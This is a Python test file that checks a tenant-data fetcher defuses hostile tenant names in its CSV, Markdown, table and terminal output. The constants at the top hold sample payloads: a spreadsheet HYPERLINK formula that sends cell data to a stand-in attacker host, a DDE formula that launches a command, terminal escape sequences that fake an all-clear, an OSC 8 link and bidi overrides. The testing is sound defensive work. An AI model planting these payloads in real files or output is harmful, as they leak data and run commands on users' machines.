"""Hostile text end to end: tenant names that a spreadsheet would evaluate or a terminal would obey reach
neither as such, through every output of the real `fetcher` (text logs, tables, CSV, Markdown)."""

from __future__ import annotations

import csv
import dataclasses
import io
import subprocess
import sys
from pathlib import Path

import pytest

from fetcher.simulator import Fault, TokenRefusal, generate_tenants
from tests.reliability.harness import Rig, Transcripts, rig

pytestmark = pytest.mark.slow

SEED = 83
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
DDE = "+cmd|' /C calc'!A0"
FAKE_ALL_CLEAR = "\x1b[2J\x1b[H\x1b[32mALL TENANTS OK"
OSC8_LINK = "\x1b]8;;http://evil.example/\x07Contoso\x1b]8;;\x07"
BIDI = "Fabrikam \u202egnp.exe"


def text_fetcher(r: Rig, *args: str) -> subprocess.CompletedProcess[str]:
    """`fetcher ARGS` with plain text logs (what cron mails and a terminal shows), its output kept."""
    return subprocess.run(
        [sys.executable, "-m", "fetcher", "--config", str(r.config), *args],
        capture_output=True,
        text=True,
        env=r.env(),
        timeout=180,
        check=False,
    )


def test_formulas_in_tenant_names_are_defused_in_every_csv(
    tmp_path: Path, database_url: str, transcripts: Transcripts
) -> None:
    """OWASP's rule: a text cell starting with = + - @ gets a leading quote; numbers stay numbers. (A tab or CR
    first is refused in a configured name since control characters are; tests/test_text.py keeps its rule.)"""
    names = [HYPERLINK, DDE, "-2+3", "@SUM(1,1)", "=1+1"]
    tenants = [dataclasses.replace(t, name=n) for t, n in zip(generate_tenants(5, seed=SEED), names, strict=True)]
    with rig(tmp_path, database_url, tenants, transcripts) as r:
        assert r.fetcher("backfill", "--days", "10").returncode == 0
        portfolio = tmp_path / "portfolio.csv"
        done = r.fetcher("report", "--format", "csv", "--output", str(portfolio))
        one = r.fetcher("report", "--tenant", tenants[0].tenant_id, "--format", "csv")

    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(portfolio.read_text(encoding="utf-8"))))
    assert sorted(row["name"] for row in rows) == sorted("'" + n for n in names)
    assert all(float(row["percent"]) > 0 for row in rows)  # figures are still plain numbers
    assert one.returncode == 0, one.stderr
    summary = {row[0]: row[1:] for row in csv.reader(io.StringIO(one.stdout)) if row}
    assert summary["name"] == ["'" + HYPERLINK]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_control_characters_in_names_are_refused_and_shown_escaped(
    tmp_path: Path, database_url: str, transcripts: Transcripts
) -> None:
    """ESC sequences (a cleared screen, a fake all-clear, an OSC 8 link) in configured tenant names are refused
    at load (exit 2, nothing fetched), and the refusal shows them escaped: they never reach the terminal."""
    first, second = generate_tenants(2, seed=SEED + 1)
    tenants = [dataclasses.replace(first, name=FAKE_ALL_CLEAR), dataclasses.replace(second, name=OSC8_LINK)]
    with rig(tmp_path, database_url, tenants, transcripts) as r:
        outputs = [text_fetcher(r, "run"), text_fetcher(r, "config", "check")]

    assert [done.returncode for done in outputs] == [2, 2], outputs[0].stderr
    for done in outputs:
        said = done.stdout + done.stderr
        assert [c for c in ("\x1b", "\x07") if c in said] == [], done.args
        assert "\\x1b[2J\\x1b[H\\x1b[32mALL TENANTS OK" in done.stderr
        assert "name holds a control character (\\x1b)" in done.stderr


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_bidi_overrides_in_names_are_shown_not_obeyed(
    tmp_path: Path, database_url: str, transcripts: Transcripts
) -> None:
    """A bidi override (a format character, not a control one: allowed in a name) never reaches the terminal or
    a text log as itself: `status`, `run`'s log and summary, `report` in every text format."""
    healthy, refused, third = generate_tenants(3, seed=SEED + 1)
    tenants = [
        dataclasses.replace(healthy, name=BIDI),
        dataclasses.replace(
            refused, name="Contoso \u202dlive", faults=(Fault.token_refusal(TokenRefusal.INVALID_SECRET),)
        ),
        dataclasses.replace(third, name="Northwind \u2067isolate\u2069"),
    ]
    with rig(tmp_path, database_url, tenants, transcripts) as r:
        outputs = [
            text_fetcher(r, "run"),
            text_fetcher(r, "status"),
            text_fetcher(r, "report"),
            text_fetcher(r, "report", "--format", "markdown"),
            text_fetcher(r, "report", "--format", "csv"),
            text_fetcher(r, "report", "--tenant", healthy.tenant_id),
        ]

    assert [done.returncode for done in outputs] == [1, 1, 0, 0, 0, 0], outputs[0].stderr
    for done in outputs:
        said = done.stdout + done.stderr
        assert [c for c in ("\u202e", "\u202d", "\u2067", "\u2069") if c in said] == [], done.args
    run, status = outputs[0], outputs[1]
    assert "Contoso \\u202dlive" in run.stderr  # the failed tenant's log line
    assert "Fabrikam \\u202egnp.exe" in status.stdout
